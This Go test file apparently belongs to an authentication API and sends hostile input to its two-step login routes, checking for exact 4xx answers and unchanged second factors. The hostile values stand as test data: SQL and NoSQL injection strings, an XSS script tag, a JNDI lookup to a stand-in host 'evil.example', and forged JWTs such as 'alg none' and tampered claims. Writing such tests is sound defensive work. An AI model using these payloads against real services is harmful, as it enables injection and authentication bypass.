package app

import (
	"encoding/base64"
	"encoding/json"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"authapi/adapters/httpapi"
	"authapi/internal/testkit"
)

// The hostile tests of two-step login send its routes what a careless or
// malicious client might: broken bodies, codes and tokens of every wrong
// type, size and spelling, tokens of other purposes, expired and spent
// ones. Each must get the exact 4xx the document promises, never a 5xx,
// and afterwards every account's second factor must be as it was.

// The account with an enrolment pending, beside astro, who has two-step
// login on.
const pendingTOTPEmail = "pending.totp@example.com"

// mfaHostileFixture is a service whose account astro has two-step login
// on, and a second account with an enrolment pending.
type mfaHostileFixture struct {
	api *testAPI
	app testkit.AuthenticatorApp
	// recovery are astro's recovery codes, none of which a case may spend.
	recovery []string
	// recent is astro's access token of a login with a code; stale one of
	// a login with the password only, before two-step login was on.
	recent, stale string
	// pending is the access token of the account whose enrolment is
	// pending, pendingApp the app that scanned it.
	pending    string
	pendingApp testkit.AuthenticatorApp
	// expired, spent and ended are mfa_tokens past their 5 minutes, used
	// by a login, and ended by 5 wrong codes.
	expired, spent, ended string
}

func newMFAHostileFixture(t *testing.T) *mfaHostileFixture {
	t.Helper()
	f := &mfaHostileFixture{api: newTestAPI(t, hostileConfig)}
	api := f.api
	api.activeUser(t)
	enrolling, _ := api.login(t)
	f.stale, _ = api.login(t)
	f.app, f.recovery = api.enrolTOTP(t, enrolling)

	code := signupAccount(t, api, pendingTOTPEmail)
	wantStatus(t, api.do(t, "POST", "/verify", map[string]string{"email": pendingTOTPEmail, "activation_code": code}), http.StatusOK)
	res := api.do(t, "POST", "/login", map[string]string{"email": pendingTOTPEmail, "password": password})
	wantStatus(t, res, http.StatusOK)
	f.pending, _ = res.body["access_token"].(string)
	f.pendingApp, _ = api.startTOTP(t, f.pending)

	f.expired = api.mfaToken(t)
	api.clock.Advance(5*time.Minute + time.Second)
	f.recent, _ = api.loginMFA(t, map[string]string{"code": api.totpCode(f.app, 0)})
	f.spent = api.mfaToken(t)
	wantStatus(t, api.do(t, "POST", "/login/mfa", map[string]string{"mfa_token": f.spent, "code": api.totpCode(f.app, 1)}), http.StatusOK)
	f.ended = api.mfaToken(t)
	for range 5 {
		wantProblem(t, api.do(t, "POST", "/login/mfa", map[string]string{"mfa_token": f.ended, "recovery_code": "00000-00000"}),
			http.StatusUnauthorized, "invalid_mfa_code")
	}
	// Past the codes used above: every case meets a current code unused.
	api.clock.Advance(2 * testkit.TOTPPeriod)
	return f
}

// run sends the cases, each a subtest, and then checks that every second
// factor is as it was: astro logs in with a code and has every recovery
// code, and the pending enrolment confirms.
func (f *mfaHostileFixture) run(t *testing.T, cases []hostileCase) {
	t.Helper()
	names := map[string]bool{}
	for _, tc := range cases {
		if names[tc.name] {
			t.Fatalf("two cases are named %q", tc.name)
		}
		names[tc.name] = true
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			checkHostileAnswer(t, tc, sendHostile(t, f.api, tc))
		})
	}

	api := f.api
	wantStatus(t, api.do(t, "GET", "/readyz", nil), http.StatusOK)
	if factors, left := api.mfaOf(t, f.recent); !slices.Equal(factors, []string{"totp"}) || left != 10 {
		t.Errorf("after the hostile requests, astro has factors %q and %v recovery codes, want totp and 10", factors, left)
	}
	if factors, _ := api.mfaOf(t, f.pending); len(factors) != 0 {
		t.Errorf("after the hostile requests, the pending account has factors %q", factors)
	}
	api.clock.Advance(testkit.TOTPPeriod)
	api.loginMFA(t, map[string]string{"code": api.totpCode(f.app, 0)})
	api.loginMFA(t, map[string]string{"recovery_code": f.recovery[9]})
	wantStatus(t, api.do(t, "POST", "/me/mfa/totp/confirm", map[string]string{"code": api.totpCode(f.pendingApp, 0)}, bearer(f.pending)...),
		http.StatusOK)
	if strings.Contains(api.logs.String(), "level=ERROR") {
		t.Errorf("the log holds errors:\n%s", api.logs)
	}
}

// mfaRoute is a route of two-step login that reads a JSON body, called
// with the access token that makes its body matter.
type mfaRoute struct {
	jsonRoute
	// access is the Authorization the route is called with, if any.
	access string
	// fill is the body's other members: the right password where one is
	// read, so that only the member under test is wrong.
	fill map[string]string
	// empty is what the route answers a body with none of the members it
	// reads: its status and code.
	emptyStatus int
	emptyCode   string
}

func (f *mfaHostileFixture) routes() []mfaRoute {
	return []mfaRoute{
		{jsonRoute{"POST", "/login/mfa", []string{"mfa_token", "code", "recovery_code"}, false}, "",
			map[string]string{"mfa_token": "not-a-token", "code": "000000"}, 400, "validation_failed"},
		{jsonRoute{"POST", "/me/mfa/totp/confirm", []string{"code"}, true}, f.pending,
			map[string]string{}, 400, "validation_failed"},
		// A session without a recent second factor, so that no case makes
		// new recovery codes.
		{jsonRoute{"POST", "/me/mfa/recovery-codes", []string{"code"}, true}, f.stale,
			map[string]string{}, 403, "mfa_step_up_required"},
		{jsonRoute{"DELETE", "/me/mfa/totp", []string{"password", "code", "recovery_code"}, true}, f.recent,
			map[string]string{"password": password}, 400, "validation_failed"},
	}
}

// request is a case for route with body.
func (r mfaRoute) request(name string, body []byte, status int, code string) hostileCase {
	tc := problemCase(r.name()+" "+name, r.method, r.path, body, status, code)
	if r.access != "" {
		tc.header = http.Header{"Authorization": {"Bearer " + r.access}}
	}
	return tc
}

// body is route's body with member set to raw JSON (left out if raw is
// empty) and the fillers for the rest.
func (r mfaRoute) body(member, raw string) []byte {
	var pairs []string
	for _, field := range r.fields {
		v, ok := r.fill[field]
		value := jsonString(v)
		if field == member {
			value, ok = raw, raw != ""
		}
		if ok {
			pairs = append(pairs, field, value)
		}
	}
	return jsonObject(pairs...)
}

func TestHostileTwoStepBodies(t *testing.T) {
	t.Parallel()
	f := newMFAHostileFixture(t)
	var cases []hostileCase
	for _, route := range f.routes() {
		for _, b := range malformedBodies() {
			status, code := b.status, b.code
			if code == "validation_failed" {
				status, code = route.emptyStatus, route.emptyCode
			}
			if b.name == "body over 8 KiB" && route.path == "/login/mfa" {
				// The route takes a passkey's answer: its limit is larger.
				b.name, b.body = "body over 64 KiB", `{"x":"`+strings.Repeat("a", httpapi.MaxPasskeyBodyBytes)+`"}`
			}
			cases = append(cases, route.request(b.name, []byte(b.body), status, code))
		}
		for _, ct := range []string{"text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=xyz"} {
			tc := route.request("sent as "+ct, route.body("", ""), 415, "unsupported_media_type")
			tc.header = withBearer(http.Header{"Content-Type": {ct}}, route.access)
			if route.access == "" {
				tc.header.Del("Authorization")
			}
			cases = append(cases, tc)
		}
	}
	f.run(t, cases)
}

func TestHostileTwoStepTypes(t *testing.T) {
	t.Parallel()
	f := newMFAHostileFixture(t)
	values := []struct{ name, raw string }{
		{"number", `123456`},
		{"huge number", `1e999999`},
		{"negative number", `-1`},
		{"boolean", `true`},
		{"array", `["123456"]`},
		{"empty object", `{}`},
		{"NoSQL $gt object", `{"$gt": ""}`},
		{"NoSQL $ne object", `{"$ne": null}`},
	}
	var cases []hostileCase
	for _, route := range f.routes() {
		for _, field := range route.fields {
			for _, v := range values {
				tc := route.request(field+" as "+v.name, route.body(field, v.raw), 400, "validation_failed")
				tc.field, tc.check = field, wantFieldMessage(field, "must be a string")
				cases = append(cases, tc)
			}
		}
	}
	// null leaves a member out: the answer is the one without it.
	nulls := []struct {
		route, field string
		status       int
		code, names  string
	}{
		{"/login/mfa", "mfa_token", 400, "validation_failed", "mfa_token"},
		{"/login/mfa", "code", 400, "validation_failed", "code"},
		{"/login/mfa", "recovery_code", 401, "invalid_token", ""},
		{"/me/mfa/totp/confirm", "code", 400, "validation_failed", "code"},
		{"/me/mfa/recovery-codes", "code", 403, "mfa_step_up_required", ""},
		{"DELETE /me/mfa/totp", "password", 400, "validation_failed", "password"},
		{"DELETE /me/mfa/totp", "code", 400, "validation_failed", "code"},
		{"DELETE /me/mfa/totp", "recovery_code", 400, "validation_failed", "code"},
	}
	for _, n := range nulls {
		i := slices.IndexFunc(f.routes(), func(r mfaRoute) bool { return r.name() == n.route })
		route := f.routes()[i]
		tc := route.request(n.field+" as null", route.body(n.field, "null"), n.status, n.code)
		tc.field = n.names
		cases = append(cases, tc)
	}
	f.run(t, cases)
}

// hostileCodes are what a client might send for a code: each is neither a
// current code nor a recovery code.
func hostileCodes(current string) []struct{ name, value string } {
	return []struct{ name, value string }{
		{"blank", "   "},
		{"SQL tautology", `' OR '1'='1`},
		{"SQL comment", `000000' --`},
		{"five digits", current[:5]},
		{"seven digits", current + "0"},
		{"the code with a NUL", current + "\x00"},
		{"the code with a space inside", current[:3] + " " + current[3:]},
		{"the code in full-width digits", strings.Map(func(r rune) rune { return r - '0' + '０' }, current)},
		{"the code in Arabic-Indic digits", strings.Map(func(r rune) rune { return r - '0' + '٠' }, current)},
		{"signed", "+" + current[1:]},
		{"exponent", "1e5000"},
		{"hex", "0x1E240"},
		{"script", `<script>alert(1)</script>`},
		{"JNDI", "${jndi:ldap://evil.example/a}"},
		{"right-to-left override", "\u202e" + current},
		{"emoji", "🔑🔑🔑🔑🔑🔑"},
		{"lone surrogate", "\xed\xa0\x80"},
		{"6 KB of digits", strings.Repeat(current, 1024)},
		{"6 KB of letters", strings.Repeat("a", 6<<10)},
	}
}

func TestHostileTwoStepCodes(t *testing.T) {
	t.Parallel()
	f := newMFAHostileFixture(t)
	api := f.api
	current := api.totpCode(f.app, 0)
	routes := f.routes()
	var cases []hostileCase
	for _, c := range hostileCodes(current) {
		raw := jsonString(c.value)
		// The second step, with a live mfa_token of its own, for a code and
		// for a recovery code.
		for _, member := range []string{"code", "recovery_code"} {
			body := jsonObject("mfa_token", jsonString(api.mfaToken(t)), member, raw)
			cases = append(cases, routes[0].request(member+" as "+c.name, body, 401, "invalid_mfa_code"))
		}
		// The pending enrolment, under the pending account's token; it
		// requires a code that is not blank.
		if strings.TrimSpace(c.value) == "" {
			tc := routes[1].request("code as "+c.name, routes[1].body("code", raw), 400, "validation_failed")
			tc.field = "code"
			cases = append(cases, tc)
		} else {
			cases = append(cases, routes[1].request("code as "+c.name, routes[1].body("code", raw), 401, "invalid_mfa_code"))
		}
		// A step-up code, on a session that has none.
		cases = append(cases, routes[2].request("code as "+c.name, routes[2].body("code", raw), 401, "invalid_mfa_code"))
		// Turning it off with the right password.
		for _, member := range []string{"code", "recovery_code"} {
			cases = append(cases, routes[3].request(member+" as "+c.name, routes[3].body(member, raw), 401, "invalid_mfa_code"))
		}
	}
	// The empty string is no code at all.
	cases = append(cases,
		routes[0].request("code empty", jsonObject("mfa_token", jsonString(api.mfaToken(t)), "code", `""`), 400, "validation_failed"),
		routes[1].request("code empty", routes[1].body("code", `""`), 400, "validation_failed"),
		routes[2].request("code empty", routes[2].body("code", `""`), 403, "mfa_step_up_required"),
		routes[3].request("code and recovery code empty", jsonObject("password", jsonString(password), "code", `""`, "recovery_code", `""`), 400, "validation_failed"),
		// Both factors at once are refused before either is looked at.
		routes[0].request("code and recovery code both", jsonObject("mfa_token", jsonString(api.mfaToken(t)),
			"code", jsonString(current), "recovery_code", jsonString(f.recovery[0])), 400, "validation_failed"),
		// Other accounts' factors are no factors here.
		routes[3].request("the pending account's code", routes[3].body("code", jsonString(api.totpCode(f.pendingApp, 0))), 401, "invalid_mfa_code"),
		// The right second factor with a wrong password changes nothing.
		withNoChallenge(routes[3].request("wrong password with the current code",
			jsonObject("password", jsonString("WrongPassword1!"), "code", jsonString(current)), 401, "invalid_credentials")),
		withNoChallenge(routes[3].request("wrong password with a recovery code",
			jsonObject("password", jsonString(strings.ToUpper(password)), "recovery_code", jsonString(f.recovery[0])), 401, "invalid_credentials")),
	)
	f.run(t, cases)
}

func withNoChallenge(tc hostileCase) hostileCase {
	tc.check = wantNoChallenge
	return tc
}

func TestHostileTwoStepTokens(t *testing.T) {
	t.Parallel()
	f := newMFAHostileFixture(t)
	api := f.api
	good := api.mfaToken(t)
	parts := strings.Split(good, ".")
	if len(parts) != 3 {
		t.Fatalf("mfa_token %q is not a JWT", good)
	}
	var header, claims map[string]any
	decodePart(t, parts[0], &header)
	decodePart(t, parts[1], &claims)
	withHeader := func(key string, value any) string {
		h := map[string]any{}
		for k, v := range header {
			h[k] = v
		}
		h[key] = value
		return encodePart(t, h) + "." + parts[1] + "." + parts[2]
	}
	withClaim := func(key string, value any) string {
		c := map[string]any{}
		for k, v := range claims {
			c[k] = v
		}
		c[key] = value
		return parts[0] + "." + encodePart(t, c) + "." + parts[2]
	}
	res := api.do(t, "POST", "/login", map[string]string{"email": pendingTOTPEmail, "password": password})
	wantStatus(t, res, http.StatusOK)
	otherRefresh, _ := res.body["refresh_token"].(string)

	tokens := []struct{ name, token string }{
		{"expired", f.expired},
		{"already used", f.spent},
		{"ended by five wrong codes", f.ended},
		{"an access token", f.recent},
		{"a refresh token", otherRefresh},
		{"garbage", "not-a-token"},
		{"6 KB", strings.Repeat("A", 6<<10)},
		{"with Bearer in front", "Bearer " + good},
		{"with a line feed inside", good[:20] + "\n" + good[20:]},
		{"truncated", good[:len(good)-1]},
		{"signature removed", parts[0] + "." + parts[1] + "."},
		{"alg none", encodePart(t, map[string]any{"alg": "none", "typ": "mfa+jwt", "kid": header["kid"]}) + "." + parts[1] + "."},
		{"typ at+jwt", withHeader("typ", "at+jwt")},
		{"typ refresh+jwt", withHeader("typ", "refresh+jwt")},
		{"bogus kid", withHeader("kid", "bogus")},
		{"another subject", withClaim("sub", "00000000-0000-7000-8000-000000000000")},
		{"another challenge", withClaim("jti", "00000000-0000-7000-8000-000000000000")},
		{"a later expiry", withClaim("exp", 4102444800)},
	}
	current := api.totpCode(f.app, 0)
	var cases []hostileCase
	for _, tk := range tokens {
		cases = append(cases, problemCase("/login/mfa mfa_token "+tk.name, "POST", "/login/mfa",
			jsonObject("mfa_token", jsonString(tk.token), "code", jsonString(current)), 401, "invalid_token"))
	}
	// An mfa_token is good for /login/mfa only.
	for _, route := range protectedRoutes {
		tc := problemCase(route.method+" "+route.path+" with an mfa_token as the bearer", route.method, route.path, nil, 401, "invalid_token")
		tc.header, tc.check = http.Header{"Authorization": {"Bearer " + good}}, wantChallenge
		cases = append(cases, tc)
	}
	for _, path := range []string{"/refresh", "/logout"} {
		cases = append(cases, problemCase(path+" with an mfa_token as the refresh token", "POST", path,
			jsonObject("refresh_token", jsonString(good)), 401, "invalid_token"))
	}
	cases = append(cases, problemCase("/unlock with an mfa_token as the unlock token", "POST", "/unlock",
		jsonObject("email", jsonString(email), "token", jsonString(good)), 400, "invalid_unlock_token"))
	f.run(t, cases)
	// The good token was never spent by the cases.
	wantStatus(t, api.do(t, "POST", "/login/mfa", map[string]string{"mfa_token": good, "recovery_code": f.recovery[8]}), http.StatusOK)
}

func decodePart(t *testing.T, part string, into any) {
	t.Helper()
	data, err := base64.RawURLEncoding.DecodeString(part)
	if err == nil {
		err = json.Unmarshal(data, into)
	}
	if err != nil {
		t.Fatalf("JWT part %q: %v", part, err)
	}
}

func encodePart(t *testing.T, v any) string {
	t.Helper()
	data, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return base64.RawURLEncoding.EncodeToString(data)
}

// TestHostileTwoStepAgainstOtherAccounts: what one account's second step
// holds is worth nothing under another account's mfa_token: astro's
// current code and recovery codes.
func TestHostileTwoStepAgainstOtherAccounts(t *testing.T) {
	t.Parallel()
	f := newMFAHostileFixture(t)
	api := f.api
	const other = "other.totp@example.com"
	code := signupAccount(t, api, other)
	wantStatus(t, api.do(t, "POST", "/verify", map[string]string{"email": other, "activation_code": code}), http.StatusOK)
	res := api.do(t, "POST", "/login", map[string]string{"email": other, "password": password})
	wantStatus(t, res, http.StatusOK)
	access, _ := res.body["access_token"].(string)
	app, _ := api.startTOTP(t, access)
	wantStatus(t, api.do(t, "POST", "/me/mfa/totp/confirm", map[string]string{"code": api.totpCode(app, -1)}, bearer(access)...), http.StatusOK)

	var cases []hostileCase
	for _, second := range []struct{ name, member, value string }{
		{"astro's current code", "code", api.totpCode(f.app, 0)},
		{"astro's next code", "code", api.totpCode(f.app, 1)},
		{"astro's recovery code", "recovery_code", f.recovery[0]},
		{"astro's recovery code in upper case", "recovery_code", strings.ToUpper(f.recovery[1])},
	} {
		res := api.do(t, "POST", "/login", map[string]string{"email": other, "password": password})
		wantProblem(t, res, http.StatusForbidden, "mfa_required")
		token, _ := res.body["mfa_token"].(string)
		cases = append(cases, problemCase("/login/mfa another account's mfa_token with "+second.name, "POST", "/login/mfa",
			jsonObject("mfa_token", jsonString(token), second.member, jsonString(second.value)), 401, "invalid_mfa_code"))
	}
	f.run(t, cases)
}
